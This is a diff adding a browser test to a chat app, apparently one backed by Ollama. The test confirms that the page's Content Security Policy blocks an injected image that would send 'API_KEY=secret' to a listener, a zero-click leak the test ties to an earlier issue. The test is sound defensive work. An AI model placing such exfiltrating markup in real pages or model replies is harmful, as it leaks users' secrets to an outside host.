@@ -397,3 +397,29 @@ def test_a_chinese_browser_gets_chinese_and_can_switch_to_english(running_app, b
         expect(page.locator("#status")).to_contain_text("Connected")
     finally:
         context.close()
+
+
+def test_the_page_works_under_its_policy_and_an_injected_image_sends_nothing(running_app, page, listener):
+    """Issue 13's zero-click leak, at the last line of defence: even markup that slipped into the page loads nothing."""
+    running_app.ollama.script(reply("Purr."))
+    violations = []
+    page.on(
+        "console",
+        lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None,
+    )
+    open_app(page, running_app.url)
+    send(page, "hello")
+    expect(page.locator("#chat")).to_contain_text("Purr.")
+    assert violations == []  # Gradio's own page needs nothing the policy refuses
+    blocked = page.evaluate(
+        """url => new Promise(resolve => {
+            document.addEventListener("securitypolicyviolation", event => resolve(event.blockedURI), {once: true});
+            const image = document.createElement("img");
+            image.src = url;
+            document.querySelector("#chat").appendChild(image);
+        })""",
+        listener.url + "/leak?API_KEY=secret",
+    )
+    assert blocked.startswith(listener.url)
+    expect(page.locator("#chat")).to_contain_text("Purr.")  # still responsive
+    assert listener.requests == []
